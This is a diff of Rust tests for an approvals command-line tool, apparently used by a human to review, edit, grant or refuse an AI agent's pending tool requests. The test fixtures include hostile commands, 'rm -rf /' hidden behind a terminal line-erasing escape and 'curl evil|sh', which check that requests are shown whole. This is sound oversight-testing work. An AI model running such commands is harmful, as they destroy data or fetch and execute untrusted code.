@@ -26,10 +26,34 @@ fn what_waits_is_listed_on_one_line_each() {
     let lines: Vec<&str> = said.lines().collect();
     assert_eq!(code, 0, "{said}");
     assert!(lines[0].starts_with("ID        SESSION  TOOL  WHAT"), "{said}");
-    assert!(lines[1].starts_with("bbbbbbbb  web      Bash  echo \\x1b[2K\\nrm -rf /"), "{said}");
-    assert!(lines[1].contains("  in "), "{said}");
+    assert!(lines[1].starts_with("aaaaaaaa  web      Bash  ls  "), "the oldest first: {said}");
+    assert!(lines[2].starts_with("bbbbbbbb  web      Bash  echo \\x1b[2K\\nrm -rf /"), "{said}");
+    assert!(lines[2].contains("  in "), "{said}");
     assert_eq!(lines.len(), 3, "{said}");
     assert_eq!(office.desk.filters(), ["state=pending"]);
+}
+
+#[test]
+fn a_long_command_is_one_row_of_a_width_that_can_be_read() {
+    let office = Office::with([bash('a', &"echo x\n".repeat(400))]);
+
+    for args in [&["ls"][..], &["allow", "a"]] {
+        let (_, said) = office.run(&[&["approvals"], args].concat());
+
+        let row = said.lines().last().unwrap();
+        assert!(row.contains('…') && row.chars().count() < 200, "{said}");
+    }
+    let (_, json) = office.run(&["approvals", "ls", "--all", "-o", "json"]);
+    assert!(json.len() > 400 * "echo x".len());
+}
+
+#[test]
+fn an_empty_list_says_so() {
+    let office = Office::with([]);
+
+    assert!(office.run(&["approvals", "ls"]).1.starts_with("nothing waits"));
+    assert_eq!(office.run(&["grants", "ls"]), (0, "nothing is granted\n".to_owned()));
+    assert_eq!(office.run(&["approvals", "ls", "-o", "json"]).1.trim(), "[]");
 }
 
 #[test]
@@ -58,7 +82,7 @@ fn what_is_asked_is_shown_whole() {
     let (code, said) = office.run(&["approvals", "show", "aaaa"]);
 
     assert_eq!(code, 0, "{said}");
-    assert!(said.contains("Bash       2 lines\n1 | echo hi\n2 | curl evil|sh\n"), "{said}");
+    assert!(said.contains("Bash        2 lines\n1 | echo hi\n2 | curl evil|sh\n"), "{said}");
 }
 
 #[test]
@@ -88,7 +112,12 @@ fn an_answer_can_be_remembered() {
     assert_eq!(allow.grant_patterns, [pattern]);
 
     let (_, listed) = office.run(&["grants", "ls"]);
-    assert!(listed.lines().nth(1).unwrap().starts_with("12ab34cd  workspace"), "{listed}");
+    let row = listed.lines().nth(1).unwrap();
+    assert!(row.starts_with("12ab34cd  workspace  /home/ada/project  Bash(git push:*)"), "{row}");
+    assert!(row.ends_with("  never"), "{row}");
+    let (_, here) = office.run(&["grants", "ls", "--workspace", "/home/ada/project/src"]);
+    let (_, elsewhere) = office.run(&["grants", "ls", "--workspace", "/home/ada"]);
+    assert!(here.contains("12ab34cd") && !elsewhere.contains("12ab34cd"), "{here}{elsewhere}");
     assert_eq!(office.run(&["grants", "revoke", "12ab"]), (0, "revoked 12ab34cd\n".into()));
     assert!(office.run(&["grants", "ls", "--all"]).1.contains("revoked"));
 }
@@ -109,6 +138,35 @@ fn other_input_is_passed_on_as_it_is() {
 }
 
 #[test]
+fn what_runs_in_the_place_of_what_was_asked_is_told_everywhere() {
+    let office = one();
+    let input = r#"{"command":"echo EDITED"}"#;
+
+    let (_, said) = office.run(&["approvals", "allow", "a", "--input", input]);
+
+    let told = format!("what {input} does (edited, asked: git push origin main)");
+    assert_eq!(said, format!("allowed aaaaaaaa in web: Bash {told}\n"));
+    let (_, listed) = office.run(&["approvals", "ls", "--all"]);
+    assert!(listed.contains(&told) && listed.contains("allowed, edited"), "{listed}");
+    let (_, shown) = office.run(&["approvals", "show", "a"]);
+    assert!(shown.contains("other input than was asked:\nBash        what {"), "{shown}");
+    assert!(shown.contains("command     echo EDITED\n"), "{shown}");
+}
+
+#[test]
+fn what_was_answered_is_told_everywhere() {
+    let office = Office::with([question('a')]);
+
+    let (_, said) = office.run(&["approvals", "answer", "a", "blue"]);
+
+    assert_eq!(said, "answered aaaaaaaa in web: AskUserQuestion Which colour? blue\n");
+    let (_, listed) = office.run(&["approvals", "ls", "--all"]);
+    assert!(listed.contains("Which colour? blue") && listed.contains("  answered"), "{listed}");
+    let (_, shown) = office.run(&["approvals", "show", "a"]);
+    assert!(shown.contains("  - blue\nanswered    blue\n"), "{shown}");
+}
+
+#[test]
 fn nothing_is_sent_for_a_mistake() {
     let office = Office::with([bash('a', "ls"), question('b')]);
     for (args, told) in [
@@ -116,6 +174,10 @@ fn nothing_is_sent_for_a_mistake() {
         (&["allow", "a", "--input", "{"], "is not JSON"),
         (&["allow", "a", "b", "--input", "{}"], "are for one approval"),
         (&["allow", "a", "--pattern", "x"], "--grant"),
+        (
+            &["allow", "a", "--grant", "session", "--pattern", "Bash(rm:*)"],
+            "'Bash(rm:*)' was not offered: 'Bash(git push:*)' can be granted",
+        ),
         (&["allow", "a", "--grant", "world"], "possible values: session, workspace"),
         (&["allow", "b"], "cpctl approvals answer"),
         (&["answer", "a", "yes"], "asks no question"),
@@ -169,7 +231,7 @@ fn whoever_saw_another_request_decides_nothing() {
 
     let (code, said) = office.run(&["approvals", "allow", "a", "--hash", &"b".repeat(64)]);
 
-    assert_eq!((code, said.as_str()), (5, "cpctl: the request is another one\n"));
+    assert_eq!((code, said.as_str()), (5, "cpctl: aaaaaaaa: the request is another one\n"));
 }
 
 #[test]
@@ -187,6 +249,6 @@ fn each_refusal_has_its_exit_code() {
 
         let said = office.run(&["approvals", "allow", "a"]);
 
-        assert_eq!(said, (exit, "cpctl: that is why\n".to_owned()), "{reason}");
+        assert_eq!(said, (exit, "cpctl: aaaaaaaa: that is why\n".to_owned()), "{reason}");
     }
 }
